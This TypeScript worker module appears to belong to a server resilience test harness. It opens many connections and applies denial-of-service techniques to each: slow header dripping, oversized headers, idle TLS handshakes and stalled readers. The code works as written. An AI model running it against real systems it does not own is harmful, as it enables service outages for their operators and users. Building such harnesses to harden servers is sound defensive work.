// One process of an attack: many connections from one address, all of which do the same hostile thing and stay open.
// attack.ts forks it, asks it for results, and kills it at the end.

import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { connect as connectTls } from 'node:tls'
import { Duplex } from 'node:stream'

export type Kind = 'silent' | 'header-drip' | 'giant-header' | 'tls-hello' | 'standing-reader'

export interface Orders {
  readonly kind: Kind
  readonly port: number
  readonly host: string
  readonly from: string
  readonly count: number
}

export interface Toll {
  readonly attempted: number
  readonly connected: number
  readonly closed: number
}

/** Connections a second, so that the attack is over in a few seconds and nothing else is starved of the processor. */
const PER_TURN = 40
const TURN_MS = 10
const DRIP_BYTES = 2_000
const DRIP_EVERY_MS = 200

// 350 headers of 42 bytes: under 16 KiB on the wire, and as much memory as such a request can use.
const UNFINISHED = `GET / HTTP/1.1\r\nHost: x\r\n${`${'a'.repeat(20)}:${'b'.repeat(19)}\r\n`.repeat(350)}`
const READERS_REQUESTS = 'GET /oauth2/session.js HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(16)

const acts: Readonly<Record<Kind, (socket: Socket) => void>> = {
  silent() {},
  'header-drip'(socket) {
    let sent = 0
    const drip = setInterval(() => {
      socket.write(UNFINISHED.slice(sent, (sent += DRIP_BYTES)))
      if (sent >= UNFINISHED.length) clearInterval(drip)
    }, DRIP_EVERY_MS)
    socket.once('close', () => clearInterval(drip))
  },
  'giant-header'(socket) {
    socket.write(`GET / HTTP/1.1\r\nHost: x\r\nX: ${'x'.repeat(1_000_000)}`)
  },
  'tls-hello'(socket) {
    socket.write(hello)
  },
  'standing-reader'(socket) {
    socket.pause()
    socket.write(READERS_REQUESTS)
  },
}

const hello = await clientHello()

process.once('message', (orders: Orders) => void attack(orders))

async function attack({ kind, port, host, from, count }: Orders): Promise<void> {
  let [attempted, connected, closed] = [0, 0, 0]
  process.on('message', () => {
    process.send?.({ attempted, connected, closed } satisfies Toll)
  })
  while (attempted < count) {
    for (let turn = 0; turn < PER_TURN && attempted < count; turn += 1) {
      attempted += 1
      const socket = connect({ port, host, localAddress: from })
      socket.on('error', () => {})
      socket.once('connect', () => {
        connected += 1
        socket.once('close', () => (closed += 1))
        acts[kind](socket)
      })
      if (kind !== 'standing-reader') socket.resume()
    }
    await sleep(TURN_MS)
  }
}

/** The first flight of a real TLS client: the server answers with its own, and waits. */
function clientHello(): Promise<Buffer> {
  return new Promise((resolve) => {
    const wire = new Duplex({
      read() {},
      write(chunk: Buffer, _, done) {
        resolve(chunk)
        done()
      },
    })
    connectTls({ socket: wire, servername: 'localhost' }).on('error', () => {})
  })
}
